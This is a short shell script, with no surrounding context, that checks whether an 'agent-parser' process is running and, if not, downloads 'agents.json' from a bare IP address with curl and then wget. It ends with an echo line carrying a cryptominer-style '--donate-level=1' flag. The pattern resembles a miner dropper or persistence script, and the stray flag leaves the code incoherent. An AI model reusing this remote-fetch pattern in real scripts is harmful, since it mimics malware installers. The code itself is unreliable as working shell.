var=$(pgrep agent-parser)
if [ -z "$var" ]
then
  curl http://203.0.113.228/download/agents.json -o agents.json
  if [ ! -f agents.json ]
  then
    wget http://203.0.113.228/download/agents.json -O agents.json
  fi
  chmod 644 agents.json
  echo "Thank you for using agent-parser" --donate-level=1
fi
